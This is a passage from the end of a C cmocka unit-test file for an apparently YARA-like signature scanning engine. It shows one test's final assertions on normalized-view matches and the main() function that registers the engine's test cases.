    assert_int_equal(engine_scan_buffer(b, s, NULL, "DeLta", 5, NULL, 0, &res), 0);
    assert_int_equal(res.match_count, 1);
    assert_int_equal(res.matches[0].view, ENGINE_VIEW_NORMALIZED);
    engine_result_cleanup(&res);
    assert_int_equal(engine_scan_buffer(a, s, NULL, "alpha", 5, NULL, 0, &res), 0);
    assert_int_equal(res.match_count, 1);
    engine_result_cleanup(&res);
    engine_scratch_destroy(s);
    engine_rules_unref(a);
    engine_rules_unref(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text_strings),
        cmocka_unit_test(test_fullword_like_yara),
        cmocka_unit_test(test_hex_and_regex),
        cmocka_unit_test(test_conditions),
        cmocka_unit_test(test_counts_saturate_not_wrap),
        cmocka_unit_test(test_utf16_view),
        cmocka_unit_test(test_normalized_only_when_asked),
        cmocka_unit_test(test_normalized_gate_changes_nothing),
        cmocka_unit_test(test_decoded_children),
        cmocka_unit_test(test_scratch_buffers_between_scans),
        cmocka_unit_test(test_nesting_past_kept_buffers),
        cmocka_unit_test(test_decode_depth_bound),
        cmocka_unit_test(test_meta_and_object_name),
        cmocka_unit_test(test_scan_time_limit),
        cmocka_unit_test(test_scratch_trim),
        cmocka_unit_test(test_stream_split_signature),
        cmocka_unit_test(test_threads_share_rules),
        cmocka_unit_test(test_scratch_follows_a_new_rule_set),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
